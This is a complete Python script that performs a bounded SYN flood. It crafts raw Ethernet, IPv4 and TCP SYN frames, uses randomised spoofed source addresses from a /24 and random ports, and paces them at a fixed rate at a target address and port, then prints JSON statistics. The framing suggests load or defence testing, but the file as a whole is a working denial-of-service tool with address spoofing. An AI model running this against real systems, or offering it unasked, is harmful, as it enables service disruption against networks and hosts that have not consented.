#!/usr/bin/env python3
"""A bounded SYN flood: COUNT TCP SYNs to one address:port, random source addresses inside one IPv4 /24
host range and random source ports, at a fixed rate, as raw Ethernet frames.

Owns: building IPv4/TCP SYN frames (RFC 791, RFC 9293 header, MSS option) and pacing them out of an
AF_PACKET socket. May call: the socket only. hping3's --rand-source draws from the whole IPv4 space and
scapy builds a few thousand packets a second; this keeps the sources on the client link and the rate
exact. Prints one JSON line: sent, seconds, pps.

    synflood.py IFACE DST_MAC DST_IP DPORT --count 20000 --rate 5000 --net 198.51.100.0 --hosts 20-250
"""
import argparse
import json
import random
import socket
import struct
import sys
import time

BURST = 50


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_frame(src_mac, dst_mac, src, dst, sport, dport, seq, ident):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), 0x02, 64240, 0, 0) + b"\x02\x04\x05\xb4"
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("iface")
    ap.add_argument("dst_mac")
    ap.add_argument("dst_ip")
    ap.add_argument("dport", type=int)
    ap.add_argument("--count", type=int, default=20000)
    ap.add_argument("--rate", type=float, default=5000.0, help="SYNs per second")
    ap.add_argument("--net", default="198.51.100.0", help="the /24 the sources are drawn from")
    ap.add_argument("--hosts", default="20-250", help="host numbers inside --net")
    ap.add_argument("--seed", type=int, default=7)
    a = ap.parse_args()

    rng = random.Random(a.seed)
    lo, hi = (int(x) for x in a.hosts.split("-"))
    net = socket.inet_aton(a.net)[:3]
    dst = socket.inet_aton(a.dst_ip)
    dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
    with open(f"/sys/class/net/{a.iface}/address") as f:
        src_mac = bytes.fromhex(f.read().strip().replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    t0 = time.monotonic()
    sent = errors = 0
    while sent + errors < a.count:
        for _ in range(min(BURST, a.count - sent - errors)):
            frame = syn_frame(src_mac, dst_mac, net + bytes([rng.randint(lo, hi)]), dst, rng.randint(1024, 65535),
                              a.dport, rng.getrandbits(32), rng.getrandbits(16))
            try:
                s.send(frame)
                sent += 1
            except OSError:
                errors += 1
        ahead = (sent + errors) / a.rate - (time.monotonic() - t0)
        if ahead > 0:
            time.sleep(ahead)
    secs = time.monotonic() - t0
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(secs, 3), "pps": round(sent / secs)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
